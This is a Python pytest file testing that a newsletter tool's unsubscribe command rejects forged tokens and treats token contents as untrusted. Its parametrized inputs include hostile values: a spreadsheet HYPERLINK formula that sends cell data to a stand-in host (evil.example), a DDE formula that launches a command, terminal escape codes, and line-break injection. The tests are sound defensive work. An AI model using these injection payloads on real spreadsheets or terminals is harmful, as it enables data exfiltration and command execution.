"""`newsletter unsubscribe` believes only tokens of the secret real mail is signed with, and
only addresses: a token is data from outside, whatever it carries."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from typer.testing import CliRunner, Result

from newsletter.cli import app
from newsletter.config import load_config
from newsletter.lists.tokens import LOCAL_SECRET, Signer
from newsletter.storage.store import open_existing_store
from tests.sending import SECRET, workspace

LIST_ID = "the-weekly-brief.example.org"


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    root = workspace(tmp_path / "ws", 5)
    monkeypatch.chdir(root)
    return root


def cli(*args: str, secret: str = SECRET) -> Result:
    return CliRunner().invoke(app, list(args), env={"NEWSLETTER_SECRET": secret})


def nothing_suppressed(ws: Path) -> bool:
    """No suppression anywhere: neither in the store nor in a CSV file."""
    store = open_existing_store(load_config(ws / "newsletter.yaml"))
    if store is not None:
        with store:
            if list(store.suppressions()):
                return False
    return not (ws / "suppressions.csv").exists()


def test_without_the_secret_no_token_is_believed(ws: Path) -> None:
    """The source has the constant that outbox and dry-run mail is signed with: anyone can
    make a token with it, for anyone's address."""
    forged = Signer(LOCAL_SECRET, LIST_ID).token("reader00000@example.com")
    result = cli("unsubscribe", forged, secret="")
    assert result.exit_code == 1
    said = " ".join(result.output.split())
    assert "NEWSLETTER_SECRET is not set" in said and "Traceback" not in said
    assert nothing_suppressed(ws)


def test_the_constant_secret_set_by_hand_is_refused_too(ws: Path) -> None:
    forged = Signer(LOCAL_SECRET, LIST_ID).token("reader00000@example.com")
    result = cli("unsubscribe", forged, secret=LOCAL_SECRET)
    assert result.exit_code == 1
    assert nothing_suppressed(ws)


@pytest.mark.parametrize(
    "carried",
    [
        '=HYPERLINK("http://evil.example/?x="&A1)',
        "=cmd|' /C calc'!A0",
        "\x1b[2J\x1b]0;owned\x07",
        "ann@example.com\n=1+1",
        "ann@example.com\r\nbob@example.com",
        "not an address",
    ],
)
def test_a_token_carrying_no_address_is_refused_and_shown_inert(ws: Path, carried: str) -> None:
    token = Signer(SECRET, LIST_ID).token(carried)  # signed with the real secret even
    result = cli("unsubscribe", token)
    assert result.exit_code == 1
    assert "not a valid address" in result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert nothing_suppressed(ws)


def test_a_valid_address_starting_like_a_formula_is_written_as_text(ws: Path) -> None:
    token = Signer(SECRET, LIST_ID).token("=sum@example.com")
    result = cli("unsubscribe", token)
    assert result.exit_code == 0, result.output
    # The store keeps it as it is; the CSV export is what a spreadsheet opens.
    result = cli("audience", "export", "--suppressions", "suppressions.csv")
    assert result.exit_code == 0, result.output
    with (ws / "suppressions.csv").open(encoding="utf-8", newline="") as fh:
        (row,) = list(csv.DictReader(fh))
    assert row["email"] == "'=sum@example.com"
